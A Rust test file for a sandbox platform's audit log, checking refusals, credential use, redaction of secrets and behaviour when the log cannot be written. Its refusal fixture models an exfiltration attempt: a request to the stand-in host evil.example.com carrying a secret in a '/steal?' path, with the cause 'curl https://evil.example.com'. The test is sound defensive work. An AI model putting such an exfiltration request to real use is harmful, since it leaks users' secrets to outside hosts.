//! What sandboxes do, in the store's audit log.

use contracts::sandbox::Owner;
use domain::id::SandboxId;
use egress::broker::ledger::ExchangeRecord;
use proxy::ask::{Outcome, Refusal, RefusalCode, Report, Way};
use secrets::{
    binding::{Binding, Exposure},
    keeper::{Entry, Master},
    randomness::SystemRandomness,
};
use tokio_util::sync::CancellationToken;

use super::*;

const VALUE: &str = "a-value-nobody-may-see";

struct World {
    directory: tempfile::TempDir,
    store: Arc<Store>,
    trail: Trail,
    writer: Writer,
}

async fn world() -> World {
    let directory = tempfile::tempdir().unwrap();
    let place = store::DataDirectory::new(directory.path().join("data"));
    let url = format!("sqlite:{}", directory.path().join("lamp.db").display());
    let store = Arc::new(store::open(&url, &place).await.unwrap());
    let master = Master::File(directory.path().join("master.key"));
    let keeper = Keeper::open(directory.path().join("secrets"), master, SystemRandomness).unwrap();
    let binding =
        Binding { hosts: vec![], places: vec![], agents: vec![], exposure: Exposure::Environment };
    let value = contracts::secret::SecretValue::new(VALUE.to_owned());
    let entry = Entry { name: "A".parse().unwrap(), value, binding, note: String::new() };
    keeper.set(entry, Timestamp::from_millis(0)).unwrap();
    let log = directory.path().join("log.jsonl");
    let (trail, writer) = Trail::open(&log, Arc::clone(&store), keeper).unwrap();
    World { directory, store, trail, writer }
}

fn record(what: What) -> Record {
    let owner = Owner::Person("ann".to_owned());
    let whose = Some((SandboxId::from_u128(7), &owner));
    Record::new(Timestamp::from_millis(5), whose, Some("implement"), what)
}

fn refusal(path: &str) -> Record {
    let refusal = Refusal {
        status: 403,
        code: RefusalCode::NotAllowed,
        host: "evil.example.com".to_owned(),
        port: 443,
        phase: "implement".to_owned(),
        rule: Some("organisation".to_owned()),
        reason: "no rule of the organisation allows it".to_owned(),
        remedy: String::new(),
    };
    let report = Report {
        host: "evil.example.com".to_owned(),
        port: 443,
        way: Way::Connect,
        request: Some(("GET".to_owned(), path.to_owned())),
        outcome: Outcome::Refused(refusal),
        bytes_up: 0,
        bytes_down: 0,
        address: None,
        millis: 1,
        first_byte_millis: None,
        usage: None,
        peer: None,
        generation: None,
        rule: None,
    };
    let cause = Some("curl https://evil.example.com".to_owned());
    record(What::Exchange(Box::new(ExchangeRecord::new(&report, None, cause))))
}

fn credential() -> Record {
    record(What::Credential {
        secret: "GITHUB".to_owned(),
        host: "api.github.com".to_owned(),
        port: 443,
        method: "GET".to_owned(),
        path: "/user".to_owned(),
    })
}

/// All rows: the log is read in pages.
async fn rows(store: &Store) -> Vec<AuditEntry> {
    let (mut position, mut rows) = (0, Vec::new());
    loop {
        let page = store.audit_log(position).await.unwrap();
        let Some(last) = page.last() else { return rows };
        position = last.position;
        rows.extend(page.into_iter().map(|link| link.entry));
    }
}

/// What was counted. It is written as soon as its minute is over, perhaps before others that wait.
fn sum(rows: &[AuditEntry]) -> serde_json::Value {
    let sums: Vec<&AuditEntry> = rows.iter().filter(|row| row.action == "egress.more").collect();
    let [sum] = sums.as_slice() else { panic!("{sums:?}") };
    serde_json::from_str(&sum.detail).unwrap()
}

#[tokio::test]
async fn refusals_credentials_findings_and_alarms_are_rows_and_ordinary_exchanges_are_lines() {
    let World { directory, store, trail, writer } = world().await;
    trail.write(&refusal(&format!("/steal?{VALUE}"))).unwrap();
    trail.write(&credential()).unwrap();
    trail
        .write(&record(What::Finding { what: "placeholder_elsewhere", detail: "x".into() }))
        .unwrap();
    trail.write(&record(What::Joined { generation: 1 })).unwrap();
    let alarm = What::Alarm { reason: "policy.yaml:3: unknown bundle".to_owned() };
    trail.write(&Record::new(Timestamp::from_millis(6), None, None, alarm)).unwrap();
    let stop = CancellationToken::new();
    stop.cancel();
    writer.run(stop).await;
    let told: Vec<String> = rows(&store)
        .await
        .iter()
        .map(|row| format!("{} | {} | {} | {}", row.actor, row.action, row.subject, row.detail))
        .collect();
    insta::assert_snapshot!(told.join("\n"), @r#"
    sandbox s_00000000000000000000000007 | egress.refused | evil.example.com:443 | {"way":"connect","method":"GET","path":"/steal?[redacted]","code":"not_allowed","rule":"organisation","reason":"no rule of the organisation allows it","cause":"curl https://evil.example.com","owner":"ann","phase":"implement"}
    sandbox s_00000000000000000000000007 | credential.used | GITHUB | {"host":"api.github.com","port":443,"method":"GET","path":"/user","owner":"ann","phase":"implement"}
    sandbox s_00000000000000000000000007 | egress.finding | placeholder_elsewhere | {"detail":"x","owner":"ann","phase":"implement"}
    system | egress.alarm | the way out | {"reason":"policy.yaml:3: unknown bundle"}
    "#);
    assert_eq!(store.verify_audit().await.unwrap().rows, 4);
    let lines = std::fs::read_to_string(directory.path().join("log.jsonl")).unwrap();
    assert_eq!(lines.lines().count(), 5);
}

#[tokio::test]
async fn thousands_of_refusals_are_few_rows_that_account_for_all() {
    let World { store, trail, writer, directory: _directory } = world().await;
    for _ in 0..5_000 {
        trail.write(&refusal("/")).unwrap();
    }
    let stop = CancellationToken::new();
    stop.cancel();
    writer.run(stop).await;
    let rows = rows(&store).await;
    assert_eq!(rows.len(), window::EACH as usize + 1);
    let sum = sum(&rows);
    assert_eq!((&sum["count"], &sum["by"][0]["count"]), (&4_940.into(), &4_940.into()));
}

#[tokio::test]
async fn while_the_log_cannot_be_written_no_credential_is_handed_out_and_refusals_are_counted() {
    let World { store, trail, writer, directory: _directory } = world().await;
    store.close().await;
    let stop = CancellationToken::new();
    let tasks = tokio_util::task::TaskTracker::new();
    tasks.spawn(writer.run(stop.clone()));
    trail.write(&refusal("/")).unwrap();
    let mut look = tokio::time::interval(std::time::Duration::from_millis(5));
    while trail.shared.trouble().is_none() {
        look.tick().await;
    }
    let refused = trail.write(&credential()).unwrap_err();
    assert!(refused.to_string().starts_with("the audit log cannot be written: "), "{refused}");
    trail.write(&refusal("/")).unwrap();
    stop.cancel();
    tasks.close();
    tasks.wait().await;
}

#[tokio::test]
async fn a_queue_that_is_full_refuses_credentials_and_counts_the_rest() {
    let World { store, trail, writer, directory: _directory } = world().await;
    let alarm = || What::Alarm { reason: "x".to_owned() };
    let fill = |_| trail.write(&Record::new(Timestamp::from_millis(6), None, None, alarm()));
    let queued = (0..WAITING + 10).flat_map(fill).count();
    assert_eq!(queued, WAITING);
    assert!(trail.write(&credential()).is_err(), "it is not handed out, so it is not counted");
    assert!(trail.write(&refusal("/")).is_err());
    let stop = CancellationToken::new();
    stop.cancel();
    writer.run(stop).await;
    let sum = sum(&rows(&store).await);
    assert_eq!(sum["count"], 1, "{sum}");
}
